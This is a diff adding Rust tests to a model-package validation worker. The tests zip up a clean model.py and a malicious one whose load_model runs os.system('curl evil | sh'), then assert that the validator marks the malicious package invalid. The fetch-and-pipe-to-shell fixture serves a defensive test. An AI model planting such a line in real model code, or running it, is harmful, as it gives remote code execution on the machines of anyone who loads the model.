@@ -179,3 +179,101 @@ async fn heartbeat_keeps_a_long_stage_and_time_limit_fails_it() {
     assert!(j.error.as_deref().unwrap().contains("time limit"), "{j:?}");
     assert_eq!(db2.model(&id2).await.unwrap().unwrap().status, "failed");
 }
+
+const CONFIG: &str = "name: t\nversion: \"1\"\nmodality: image\npreprocessing:\n  resize: [8, 8]\nmodel:\n  num_classes: 2\n";
+const MODEL_OK: &str = "import torch\nfrom safetensors.torch import load_file\n\ndef load_model(weights_path, num_classes=2):\n    m = torch.nn.Linear(2, num_classes)\n    m.load_state_dict(load_file(weights_path))\n    return m.eval()\n";
+const MODEL_BAD: &str = "import os\nimport torch\n\ndef load_model(weights_path, num_classes=2):\n    os.system('curl evil | sh')\n    return torch.nn.Linear(2, num_classes)\n";
+
+fn safetensors(n: usize) -> Vec<u8> {
+    let h = format!(
+        r#"{{"w":{{"dtype":"F32","shape":[{n}],"data_offsets":[0,{}]}}}}"#,
+        n * 4
+    );
+    let mut v = (h.len() as u64).to_le_bytes().to_vec();
+    v.extend_from_slice(h.as_bytes());
+    v.resize(v.len() + n * 4, 0);
+    v
+}
+
+fn zip_package(model_py: &str) -> Vec<u8> {
+    use std::io::Write;
+    let mut z = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    for (name, data) in [
+        ("model_config.yaml", CONFIG.as_bytes().to_vec()),
+        ("model.py", model_py.as_bytes().to_vec()),
+        ("model.safetensors", safetensors(6)),
+    ] {
+        z.start_file(name, zip::write::SimpleFileOptions::default())
+            .unwrap();
+        z.write_all(&data).unwrap();
+    }
+    z.finish().unwrap().into_inner()
+}
+
+async fn confirmed(db: &Db, store: &Store, data: &[u8]) -> String {
+    let sha = hex::encode(Sha256::digest(data));
+    store
+        .put_bytes(&model_key(&sha), Bytes::from(data.to_vec()))
+        .await
+        .unwrap();
+    let id = uuid::Uuid::new_v4().to_string();
+    let u = PendingUpload {
+        staging_key: staging_key(&id),
+        model_id: id.clone(),
+        hotkey: format!("hk-{id}"),
+        modality: "image".into(),
+        vertical: "general".into(),
+        filename: "m.zip".into(),
+        expected_hash: sha.clone(),
+        file_size: data.len() as i64,
+        state: "received".into(),
+        created_at: now_ms(),
+        expires_at: now_ms() + 60_000,
+    };
+    db.insert_upload(&u).await.unwrap();
+    db.confirm_model(NewModel {
+        upload: &u,
+        r2_key: &model_key(&sha),
+        first_stage: "validate",
+        max_attempts: 3,
+        max_per_modality: 3,
+    })
+    .await
+    .unwrap();
+    id
+}
+
+#[tokio::test]
+async fn package_evaluator_uses_gas_package_validate() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = Db::sqlite_file(&dir.path().join("m.db")).await.unwrap();
+    let store = Store::local(dir.path().join("o")).unwrap();
+    let good = confirmed(&db, &store, &zip_package(MODEL_OK)).await;
+    let bad = confirmed(&db, &store, &zip_package(MODEL_BAD)).await;
+    let ev = worker::PackageEvaluator {
+        next_after_validate: None,
+    };
+    let cfg = WorkerConfig::default();
+    while worker::run_one(&db, &store, &ev, &cfg).await.unwrap() {}
+
+    let g = db.model(&good).await.unwrap().unwrap();
+    assert_eq!(g.status, "valid", "{:?}", g.reasons);
+    assert!(g.reasons.is_empty());
+    let job = &db.jobs_of(&good).await.unwrap()[0];
+    assert_eq!(job.result.as_ref().unwrap()["passed"], true);
+    assert_eq!(job.result.as_ref().unwrap()["detail"]["valid"], true);
+
+    let b = db.model(&bad).await.unwrap().unwrap();
+    assert_eq!(b.status, "invalid");
+    assert!(
+        b.reasons
+            .iter()
+            .any(|r| r.contains("os.system") || r.contains("os")),
+        "{:?}",
+        b.reasons
+    );
+    assert_eq!(
+        db.jobs_of(&bad).await.unwrap()[0].result.as_ref().unwrap()["passed"],
+        false
+    );
+}
